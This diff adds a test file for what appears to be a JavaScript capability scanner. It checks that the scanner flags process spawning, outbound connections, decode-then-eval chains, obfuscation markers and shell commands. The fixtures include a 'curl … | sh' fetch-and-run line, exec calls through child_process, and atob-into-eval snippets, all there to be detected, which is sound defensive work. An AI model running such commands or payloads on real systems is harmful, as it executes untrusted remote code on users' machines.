@@ -1,0 +1,147 @@
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { extractJsCapabilities } from './extract.js';
+import { buildLineIndex } from './line-index.js';
+import { estimateNesting, isSafeToParse } from './nesting.js';
+import { needsSyntaxTree } from './prefilter.js';
+import { makeSnippet } from './snippet.js';
+
+const capabilitiesOf = (source: string, filename = 'x.js') =>
+  extractJsCapabilities(source, { filename }).facts.map((fact) => `${fact.capability}@${fact.line}`);
+
+describe('when offsets become positions', () => {
+  it('counts lines from 1 and columns in UTF-16 units, CRLF included', () => {
+    const index = buildLineIndex('ab\r\ncé\nlast');
+    expect(index.lines).toBe(3);
+    expect(index.position(0)).toEqual({ line: 1, column: 1 });
+    expect(index.position(5)).toEqual({ line: 2, column: 2 });
+    expect(index.position(7)).toEqual({ line: 3, column: 1 });
+    expect(index.lineSpan(1)).toEqual({ start: 0, end: 2 });
+  });
+});
+
+describe('when a snippet is made', () => {
+  it('escapes bidi and control characters, collapses blanks and redacts tokens', () => {
+    const source = `const a = "\u202Eevil";\n\n   const t = 'ghp_${'a'.repeat(36)}';`;
+    const snippet = makeSnippet(source, 0, source.length);
+    expect(snippet).toContain('\\u202e');
+    expect(snippet).not.toContain('\u202E');
+    expect(snippet).not.toContain('  ');
+    expect(snippet).toContain('ghp_[redacted]');
+    expect(snippet).not.toContain('a'.repeat(36));
+  });
+});
+
+describe('when modules are reached through ESM imports and aliases', () => {
+  it('resolves named, namespace, renamed and awaited dynamic imports', async () => {
+    const source = [
+      "import { exec as run } from 'node:child_process';",
+      "import * as net from 'net';",
+      "import fsp from 'fs/promises';",
+      "run('id');",
+      "net.connect(80, 'host.example.invalid');",
+      "await fsp.writeFile('out.txt', 'x');",
+      'async function later() {',
+      "  const { execSync } = await import('child_process');",
+      "  execSync('id');",
+      '}',
+    ].join('\n');
+    expect(capabilitiesOf(source, 'x.mjs')).toEqual(
+      expect.arrayContaining([
+        'process.spawn@4',
+        'network.outbound@5',
+        'filesystem.write@6',
+        'process.spawn@9',
+      ]),
+    );
+  });
+
+  it('does not take a local function named like a global for the global', () => {
+    const source =
+      'function fetch(x) { return x; }\nconst process = require("child_process");\nprocess.env;\n';
+    expect(capabilitiesOf(source)).not.toContain('environment.bulk-read@3');
+  });
+});
+
+describe('when the same name means different things in different functions', () => {
+  it('keeps taint inside the function that decoded', () => {
+    const source = [
+      'function a() { const e = atob(input); return e.length; }',
+      'function b(e) { return eval(e); }',
+      'function c() { const e = atob(input); return eval(e); }',
+    ].join('\n');
+    const chains = extractJsCapabilities(source, { filename: 'x.js' }).facts.filter(
+      (fact) => fact.capability === 'code.decode-then-execute',
+    );
+    expect(chains.map((fact) => fact.line)).toEqual([3]);
+  });
+});
+
+describe('when the prefilter decides whether a file needs its syntax tree', () => {
+  it('lets plain modules skip the parse and sends anything capability-shaped to it', () => {
+    expect(
+      needsSyntaxTree(
+        "var baseGet = require('./_baseGet');\nmodule.exports = function get(o, p) { return baseGet(o, p); };",
+      ),
+    ).toBe(false);
+    for (const source of [
+      "require('https')",
+      'eval(x)',
+      'var _0x1a2b = 1',
+      'x = !![]',
+      'require(name)',
+      'new Date()',
+    ]) {
+      expect(needsSyntaxTree(source), source).toBe(true);
+    }
+    const result = extractJsCapabilities("const url = 'curl https://x.invalid/i.sh | sh';", {
+      filename: 'x.js',
+    });
+    expect(result.file.parsed).toBe('strings-only');
+    expect(result.facts.map((fact) => fact.capability)).toEqual(['process.shell-command']);
+  });
+});
+
+describe('when nesting is estimated', () => {
+  it('passes ordinary code and stops hostile depth', () => {
+    expect(
+      isSafeToParse(estimateNesting('function f(a) { if (a) { return [a, { b: (a + 1) * 2 }]; } }')),
+    ).toBe(true);
+    expect(isSafeToParse(estimateNesting(`x = ${'('.repeat(5000)}1${')'.repeat(5000)}`))).toBe(false);
+    expect(isSafeToParse(estimateNesting(`x = ${'a+'.repeat(20000)}1`))).toBe(false);
+    // Brackets inside strings and comments are not code.
+    expect(isSafeToParse(estimateNesting(`const s = "${'('.repeat(5000)}"; // ${'['.repeat(5000)}`))).toBe(
+      true,
+    );
+  });
+});
+
+describe('when input is truncated or arbitrary', () => {
+  const fixture = readFileSync(
+    fileURLToPath(new URL('../../../test/fixtures/js/data/decode-exec.js', import.meta.url)),
+    'utf8',
+  );
+
+  it('gives a result for the fixture cut at every offset', () => {
+    for (let cut = 0; cut <= fixture.length; cut++) {
+      const result = extractJsCapabilities(fixture.slice(0, cut), { filename: 'cut.js' });
+      expect(result.file.bytes).toBe(Buffer.byteLength(fixture.slice(0, cut)));
+    }
+  });
+
+  it('never throws on arbitrary text', () => {
+    const jsish = fc.string({
+      unit: fc.constantFrom(...'(){}[];,.=+!?:`\'"/\\*_0xabc eval require \n\t\u2028'.split('')),
+      maxLength: 300,
+    });
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ maxLength: 300 }), jsish), (source) => {
+        const result = extractJsCapabilities(source, { filename: 'p.js' });
+        expect(result.file.lines).toBeGreaterThan(0);
+      }),
+      { numRuns: 400 },
+    );
+  });
+});
